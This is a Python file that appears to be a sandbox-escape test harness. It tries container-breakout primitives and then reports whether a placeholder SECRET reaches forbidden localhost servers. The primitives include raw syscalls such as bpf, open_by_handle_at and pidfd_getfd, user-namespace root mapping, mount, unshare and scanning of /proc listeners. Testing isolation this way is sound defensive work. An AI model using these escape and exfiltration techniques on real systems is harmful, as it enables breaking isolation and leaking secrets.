# SPDX-License-Identifier: Apache-2.0
"""Runs as the command of a workload, and means to get out.

As a program: escape.py ATTEMPT FACTS. FACTS is JSON: what a well-informed attacker would know (ports,
process ids). It tries ATTEMPT, and then to deliver SECRET to a server that it must not reach. It
prints JSON: {what it tried: "ok" or the name of an errno}. What was delivered, the scene sees at the
server.
"""
import ctypes
import errno
import json
import os
import platform
import socket
import sys

SECRET = b"SECRET"
ATTEMPTS = {}
SYSCALLS = {  # x86-64, aarch64
    "bpf": (321, 280), "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265),
    "process_vm_writev": (310, 271), "io_uring_setup": (425, 425), "io_uring_enter": (426, 426),
    "io_uring_register": (427, 427), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438),
    "socket": (41, 198), "socketpair": (53, 199),
}
CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER, CLONE_NEWNET = (
    0x20000, 0x02000000, 0x10000000, 0x40000000)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ptrace.restype = ctypes.c_long


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def syscall(name, *arguments):
    number = SYSCALLS[name][platform.machine() != "x86_64"]
    return check(libc.syscall(ctypes.c_long(number), *(
        ctypes.c_long(a) if isinstance(a, int) else a for a in arguments)))


class Report(dict):
    """What was tried, and how it went."""

    def tried(self, what, function, *arguments):
        try:
            result = function(*arguments)
        except OSError as error:
            self[what] = errno.errorcode.get(error.errno, str(error))
            return None
        self[what] = "ok"
        return result


def deliver(report, facts, name="deliver", sock=None):
    """SECRET to the forbidden servers, by TCP and by UDP."""
    def tcp():
        with sock or socket.socket() as client:
            client.settimeout(5)
            client.connect(("127.0.0.1", facts["tcp"]))
            client.sendall(SECRET)

    def udp():
        with socket.socket(type=socket.SOCK_DGRAM) as client:
            client.sendto(SECRET, ("127.0.0.1", facts["udp"]))

    report.tried(name + " by TCP", tcp)
    report.tried(name + " by UDP", udp)


def mount(source, target, kind, flags=0, data=None):
    return check(libc.mount(source.encode(), target.encode(), kind.encode(), flags,
                            data and data.encode()))


def unshare(flags):
    return check(libc.unshare(flags))


def in_child(report, what, function):
    """Run FUNCTION in a process of its own, since it changes what cannot be changed back. What it
    reports comes back."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        mine = Report()
        try:
            mine.tried(what, function, mine)
        finally:
            os.write(writer, json.dumps(mine).encode())
            os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as stream:
        report.update(json.loads(stream.read() or "{}"))
    os.waitpid(pid, 0)


def become_root_of_a_user_namespace():
    uid, gid = os.getuid(), os.getgid()
    unshare(CLONE_NEWUSER)
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


def mounts(kind):
    with open("/proc/self/mountinfo") as table:
        rows = [line.split() for line in table]
    return [row[4] for row in rows if row[row.index("-") + 1] == kind]


def listeners(facts):
    """The ports on which somebody listens whom we do not know: sluice."""
    found = set()
    for table in "tcp", "tcp6":
        with open("/proc/net/" + table) as rows:
            for row in list(rows)[1:]:
                fields = row.split()
                if fields[3] == "0A":
                    found.add(int(fields[1].rpartition(":")[2], 16))
    return sorted(found - {facts["tcp"], facts["http"]})


def main(name, facts):
    # Each file registers its attempts.
    import escape_cgroup
    import escape_processes
    import escape_sockets
    assert escape_cgroup and escape_processes and escape_sockets
    report, facts = Report(), json.loads(facts)
    facts["sluice"] = os.getppid()
    facts["listeners"] = listeners(facts)
    ATTEMPTS[name](report, facts)
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    sys.modules["escape"] = sys.modules["__main__"]
    main(*sys.argv[1:])
